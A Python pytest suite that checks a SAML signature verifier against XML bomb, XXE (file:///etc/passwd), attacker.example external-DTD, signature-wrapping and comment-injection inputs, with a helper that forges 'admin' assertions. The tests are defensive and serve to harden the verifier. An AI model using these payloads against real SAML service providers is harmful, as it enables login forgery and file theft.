"""Enveloped signature checking: safe parsing, the SAML signature profile, wrapping."""

from __future__ import annotations

import base64
import copy
import datetime as dt
from typing import Any

import pytest
import xmlsec
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from lxml import etree

from mock_idp.saml_idp import AuthnRequestInfo, SamlFault, SamlIdP, SamlSigningKey
from mock_idp.users import Person, person_from_dict
from sso_bridge.saml import SamlError, element_text, parse_xml, verify_enveloped

BASE = "https://idp.example"
SP = "https://sp.example/metadata"
ACS = "https://sp.example/acs"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"saml": SAML, "samlp": SAMLP, "ds": DS}
NOW = dt.datetime.now(dt.UTC).replace(microsecond=0)
ASSERTION_XPATH = "/samlp:Response/saml:Assertion[1]"

PERSON = person_from_dict(
    {
        "oid": 1000299654,
        "login": "maria@example.org",
        "password": "secret",
        "last_name": "Смирнова",
        "first_name": "Мария",
        "middle_name": "Петровна",
        "birth_date": "12.03.1984",
        "gender": "F",
        "level": "confirmed",
        "snils": "112-233-445 95",
        "contacts": [
            {"type": "EML", "value": "maria@example.org", "verified": True},
            {"type": "MBT", "value": "+7(900)0000001", "verified": True},
        ],
    }
)


class FixedClock:
    def __init__(self, now: dt.datetime = NOW) -> None:
        self.moment = now

    def now(self) -> dt.datetime:
        return self.moment


def make_idp() -> SamlIdP:
    idp = SamlIdP(BASE, clock=FixedClock())
    idp.register_sp_settings(SP, ACS)
    return idp


@pytest.fixture(scope="module")
def idp() -> SamlIdP:
    return make_idp()


def request_info(request_id: str = "_req1") -> AuthnRequestInfo:
    return AuthnRequestInfo(id=request_id, sp_entity_id=SP, acs_url=ACS, binding="post")


def response_xml(
    idp: SamlIdP,
    request: AuthnRequestInfo | None = None,
    faults: tuple[SamlFault, ...] = (),
    person: Person = PERSON,
) -> bytes:
    form = idp.login_response(request, person, faults=faults, sp_entity_id=SP)
    return base64.b64decode(form.fields["SAMLResponse"])


def to_bytes(root: Any) -> bytes:
    return bytes(etree.tostring(root))


def sign(
    element: Any, key: SamlSigningKey, method: Any = xmlsec.constants.TransformRsaSha256
) -> None:
    """(Re)sign ``element`` in place as the mock IdP does: enveloped, exc-c14n, RSA-SHA256."""
    sign_with(element, key.key_pem(), key.certificate_pem(), method)


def sign_with(element: Any, key_pem: bytes, certificate_pem: bytes, method: Any) -> None:
    for old in element.findall("ds:Signature", NS):
        element.remove(old)
    c = xmlsec.constants
    signature = xmlsec.template.create(element, c.TransformExclC14N, method, ns="ds")
    position = 1 if element.find("saml:Issuer", NS) is not None else 0
    element.insert(position, signature)
    reference = xmlsec.template.add_reference(
        signature, c.TransformSha256, uri="#" + element.get("ID")
    )
    xmlsec.template.add_transform(reference, c.TransformEnveloped)
    xmlsec.template.add_transform(reference, c.TransformExclC14N)
    xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(signature))
    context = xmlsec.SignatureContext()
    context.key = xmlsec.Key.from_memory(key_pem, c.KeyDataFormatPem)
    context.key.load_cert_from_memory(certificate_pem, c.KeyDataFormatCertPem)
    context.register_id(element, "ID")
    context.sign(signature)


def assertion_of(root: Any) -> Any:
    return root.find("saml:Assertion", NS)


def element_id(document: Any, selector: str) -> str:
    """The ID of the element a consumer would look for: ``selector`` is an ID, or an XPath
    that the test (never the library) evaluates to pick the element by position."""
    if not selector.startswith("/"):
        return selector
    root = parse_xml(document) if isinstance(document, bytes) else document
    found = root.getroottree().xpath(selector, namespaces=NS)
    return str(found[0].get("ID")) if found else "_absent"


def refused(code: str, document: Any, selector: str, idp: SamlIdP) -> None:
    with pytest.raises(SamlError) as info:
        verify_enveloped(document, element_id(document, selector), [idp.signing_key.certificate])
    assert info.value.code == code


# -- the good case ----------------------------------------------------------------------------


def test_good_signatures_return_the_signed_elements(idp: SamlIdP) -> None:
    xml = response_xml(idp)
    root = parse_xml(xml)
    trusted = [idp.signing_key.certificate]
    assertion = verify_enveloped(root, element_id(root, ASSERTION_XPATH), trusted)
    assert assertion is assertion_of(root)
    response = verify_enveloped(xml, root.get("ID"), trusted)
    assert response.tag == f"{{{SAMLP}}}Response"
    assert verify_enveloped(root, assertion.get("ID"), trusted) is assertion


def test_second_trusted_certificate_is_tried(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    other = SamlSigningKey.generate("other").certificate
    trusted = [other, idp.signing_key.certificate]
    assert verify_enveloped(root, root.get("ID"), trusted) is root


@pytest.mark.parametrize(
    ("curve", "method"),
    [
        (ec.SECP256R1(), xmlsec.constants.TransformEcdsaSha256),
        (ec.SECP384R1(), xmlsec.constants.TransformEcdsaSha384),
    ],
)
def test_ecdsa_signature(idp: SamlIdP, curve: ec.EllipticCurve, method: Any) -> None:
    key = ec.generate_private_key(curve)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "ec-idp")])
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(NOW - dt.timedelta(days=1))
        .not_valid_after(NOW + dt.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    certificate_pem = certificate.public_bytes(serialization.Encoding.PEM)
    root = parse_xml(response_xml(idp))
    sign_with(assertion_of(root), key_pem, certificate_pem, method)
    document = to_bytes(root)
    assertion = verify_enveloped(document, element_id(document, ASSERTION_XPATH), [certificate])
    assert assertion.tag == f"{{{SAML}}}Assertion"
    refused("saml.wrong_key", document, ASSERTION_XPATH, idp)


def test_no_trusted_certificate(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    with pytest.raises(SamlError) as info:
        verify_enveloped(root, root.get("ID"), [])
    assert info.value.code == "saml.no_trusted_key"


# -- safe parsing -----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x">&lol4;</samlp:Response>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x">&xxe;</samlp:Response>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x"/>
"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_dtds_are_refused(document: bytes) -> None:
    with pytest.raises(SamlError) as info:
        parse_xml(document)
    assert info.value.code == "saml.dtd_forbidden"


def test_dtd_in_another_encoding_is_refused_after_parsing() -> None:
    document = EXTERNAL_ENTITY.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"')
    with pytest.raises(SamlError) as info:
        parse_xml(document.decode("ascii").encode("utf-16"))
    assert info.value.code == "saml.dtd_forbidden"


def test_oversized_document_is_refused() -> None:
    document = b"<a>" + b"x" * 300_000 + b"</a>"
    with pytest.raises(SamlError) as info:
        parse_xml(document)
    assert info.value.code == "saml.too_large"
    assert parse_xml(document, max_bytes=len(document)).tag == "a"


def test_not_well_formed() -> None:
    with pytest.raises(SamlError) as info:
        parse_xml(b"<a><b></a>")
    assert info.value.code == "saml.xml_invalid"


def test_element_with_dtd_is_refused(idp: SamlIdP) -> None:
    parser = etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True)
    root = etree.fromstring(EXTERNAL_DTD, parser)
    refused("saml.dtd_forbidden", root, "_x", idp)


# -- the signature profile --------------------------------------------------------------------


def test_unsigned_assertion(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp, faults=(SamlFault.UNSIGNED,)))
    refused("saml.unsigned", root, ASSERTION_XPATH, idp)


def test_other_key_is_wrong_key_even_with_certificate_in_keyinfo(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp, faults=(SamlFault.OTHER_KEY,)))
    refused("saml.wrong_key", root, ASSERTION_XPATH, idp)
    refused("saml.wrong_key", root, root.get("ID"), idp)


def test_keyinfo_is_ignored(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    for key_info in root.iter(f"{{{DS}}}KeyInfo"):
        key_info.getparent().remove(key_info)
    trusted = [idp.signing_key.certificate]
    assert verify_enveloped(root, element_id(root, ASSERTION_XPATH), trusted) is assertion_of(root)


def test_tampered_content(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    name_id = assertion_of(root).find("saml:Subject/saml:NameID", NS)
    name_id.text = "someone-else"
    refused("saml.signature_invalid", root, ASSERTION_XPATH, idp)


def test_empty_signature_value(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    value = root.find("ds:Signature/ds:SignatureValue", NS)
    value.text = ""
    refused("saml.empty_signature", root, root.get("ID"), idp)


def _reference(root: Any) -> Any:
    return assertion_of(root).find("ds:Signature/ds:SignedInfo/ds:Reference", NS)


def test_extra_transform(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    transforms = _reference(root).find("ds:Transforms", NS)
    extra = etree.SubElement(transforms, f"{{{DS}}}Transform")
    extra.set("Algorithm", "http://www.w3.org/TR/1999/REC-xpath-19991116")
    refused("saml.bad_transforms", root, ASSERTION_XPATH, idp)


def test_transform_order(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    transforms = _reference(root).find("ds:Transforms", NS)
    first = transforms[0]
    transforms.remove(first)
    transforms.append(first)
    refused("saml.bad_transforms", root, ASSERTION_XPATH, idp)


def test_second_reference(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    reference = _reference(root)
    reference.addnext(copy.deepcopy(reference))
    refused("saml.reference_mismatch", root, ASSERTION_XPATH, idp)


def test_empty_reference_uri(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    _reference(root).set("URI", "")
    refused("saml.reference_mismatch", root, ASSERTION_XPATH, idp)


@pytest.mark.parametrize(
    ("path", "algorithm"),
    [
        ("ds:SignedInfo/ds:SignatureMethod", "http://www.w3.org/2000/09/xmldsig#rsa-sha1"),
        ("ds:SignedInfo/ds:Reference/ds:DigestMethod", "http://www.w3.org/2000/09/xmldsig#sha1"),
    ],
)
def test_weak_algorithms(idp: SamlIdP, path: str, algorithm: str) -> None:
    root = parse_xml(response_xml(idp))
    assertion_of(root).find(f"ds:Signature/{path}", NS).set("Algorithm", algorithm)
    refused("saml.bad_algorithm", root, ASSERTION_XPATH, idp)


def test_signature_object_is_forbidden(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    signature = assertion_of(root).find("ds:Signature", NS)
    etree.SubElement(signature, f"{{{DS}}}Object").text = "x"
    refused("saml.object_forbidden", root, ASSERTION_XPATH, idp)


def test_duplicate_id(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    assertion = assertion_of(root)
    twin = etree.SubElement(root, f"{{{SAMLP}}}Extensions")
    etree.SubElement(twin, "other").set("ID", assertion.get("ID"))
    refused("saml.duplicate_id", root, ASSERTION_XPATH, idp)


# -- signature wrapping (XSW), checked on the element the caller would consume ----------------


def _evil_assertion(root: Any, *, keep_signature: bool) -> Any:
    evil = copy.deepcopy(assertion_of(root))
    evil.set("ID", "_evil")
    evil.find("saml:Subject/saml:NameID", NS).text = "admin"
    if not keep_signature:
        evil.remove(evil.find("ds:Signature", NS))
    return evil


def xsw(variant: str, xml: bytes) -> Any:
    """A wrapping attack built from a correctly signed Response."""
    root = parse_xml(xml)
    original = assertion_of(root)
    if variant == "xsw1":  # evil Response; the original inside its copied signature's Object
        evil = copy.deepcopy(root)
        evil.set("ID", "_evil_response")
        signature = evil.find("ds:Signature", NS)
        etree.SubElement(signature, f"{{{DS}}}Object").append(copy.deepcopy(root))
        return evil
    if variant == "xsw2":  # evil Response; the original beside its copied signature
        evil = copy.deepcopy(root)
        evil.set("ID", "_evil_response")
        evil.find("ds:Signature", NS).addprevious(copy.deepcopy(root))
        return evil
    root.remove(root.find("ds:Signature", NS))  # the response signature is not checked
    if variant == "xsw3":  # evil assertion before the original
        original.addprevious(_evil_assertion(root, keep_signature=False))
    elif variant == "xsw4":  # evil assertion wraps the original
        evil = _evil_assertion(root, keep_signature=False)
        original.addprevious(evil)
        evil.append(original)
    elif variant == "xsw5":  # evil assertion with the copied signature; original after it
        original.addprevious(_evil_assertion(root, keep_signature=True))
    elif variant == "xsw6":  # original inside the Object of the evil one's copied signature
        evil = _evil_assertion(root, keep_signature=True)
        original.addprevious(evil)
        etree.SubElement(evil.find("ds:Signature", NS), f"{{{DS}}}Object").append(original)
    elif variant == "xsw7":  # original inside Extensions, evil assertion in its place
        extensions = etree.Element(f"{{{SAMLP}}}Extensions")
        original.addprevious(extensions)
        original.addprevious(_evil_assertion(root, keep_signature=False))
        extensions.append(original)
    elif variant == "xsw8":  # original, unsigned, inside the Object of the evil one's signature
        evil = _evil_assertion(root, keep_signature=True)
        original.addprevious(evil)
        inner = copy.deepcopy(original)
        inner.remove(inner.find("ds:Signature", NS))
        etree.SubElement(evil.find("ds:Signature", NS), f"{{{DS}}}Object").append(inner)
        root.remove(original)
    elif variant == "cloned_response_signature":  # evil assertion signed "by" the response
        evil = _evil_assertion(root, keep_signature=False)
        signature = copy.deepcopy(parse_xml(xml).find("ds:Signature", NS))
        evil.find("saml:Issuer", NS).addnext(signature)
        original.addprevious(evil)
        root.remove(original)
    elif variant == "moved_signature":  # the assertion's signature moved up to the Response
        signature = original.find("ds:Signature", NS)
        root.find("saml:Issuer", NS).addnext(signature)
    else:
        raise AssertionError(variant)
    return root


XSW_AT_VERIFY = [
    ("xsw1", "/samlp:Response", "saml.object_forbidden"),
    ("xsw2", "/samlp:Response", "saml.reference_mismatch"),
    ("xsw3", ASSERTION_XPATH, "saml.unsigned"),
    ("xsw4", ASSERTION_XPATH, "saml.unsigned"),
    ("xsw5", ASSERTION_XPATH, "saml.reference_mismatch"),
    ("xsw6", ASSERTION_XPATH, "saml.object_forbidden"),
    ("xsw7", ASSERTION_XPATH, "saml.unsigned"),
    ("xsw8", ASSERTION_XPATH, "saml.object_forbidden"),
    ("cloned_response_signature", ASSERTION_XPATH, "saml.reference_mismatch"),
    ("moved_signature", ASSERTION_XPATH, "saml.unsigned"),
]


@pytest.mark.parametrize(("variant", "selector", "code"), XSW_AT_VERIFY)
def test_signature_wrapping(idp: SamlIdP, variant: str, selector: str, code: str) -> None:
    refused(code, xsw(variant, response_xml(idp)), selector, idp)


def test_wrapped_original_still_verifies_but_is_not_what_is_consumed(idp: SamlIdP) -> None:
    """The signed original is found by its own ID; the consumer's element never is."""
    root = xsw("xsw7", response_xml(idp))
    original_id = root.find("samlp:Extensions/saml:Assertion", NS).get("ID")
    trusted = [idp.signing_key.certificate]
    verified = verify_enveloped(root, original_id, trusted)
    assert verified.getparent().tag == f"{{{SAMLP}}}Extensions"
    assert element_text(verified.find("saml:Subject/saml:NameID", NS)) != "admin"


# -- comment injection ------------------------------------------------------------------------


def test_comment_in_signed_name_id_keeps_the_whole_text(idp: SamlIdP) -> None:
    root = parse_xml(response_xml(idp))
    name_id = assertion_of(root).find("saml:Subject/saml:NameID", NS)
    name_id.text = "alice@example.org"
    comment = etree.Comment("")
    comment.tail = ".evil.com"
    name_id.append(comment)
    sign(assertion_of(root), idp.signing_key)
    reparsed = parse_xml(to_bytes(root))
    assert b"alice@example.org<!---->.evil.com" in to_bytes(reparsed)
    trusted = [idp.signing_key.certificate]
    verified = verify_enveloped(reparsed, element_id(reparsed, ASSERTION_XPATH), trusted)
    node = verified.find("saml:Subject/saml:NameID", NS)
    assert node.text == "alice@example.org"  # what a naive reader would take
    assert element_text(node) == "alice@example.org.evil.com"


def test_comment_added_after_signing_still_verifies_and_reads_whole(idp: SamlIdP) -> None:
    """Exclusive c14n drops comments, so the signature survives; the text must not shrink."""
    root = parse_xml(response_xml(idp))
    name_id = assertion_of(root).find("saml:Subject/saml:NameID", NS)
    whole = name_id.text
    comment = etree.Comment("")
    comment.tail = whole[5:]
    name_id.text = whole[:5]
    name_id.append(comment)
    trusted = [idp.signing_key.certificate]
    verified = verify_enveloped(to_bytes(root), element_id(root, ASSERTION_XPATH), trusted)
    assert element_text(verified.find("saml:Subject/saml:NameID", NS)) == whole
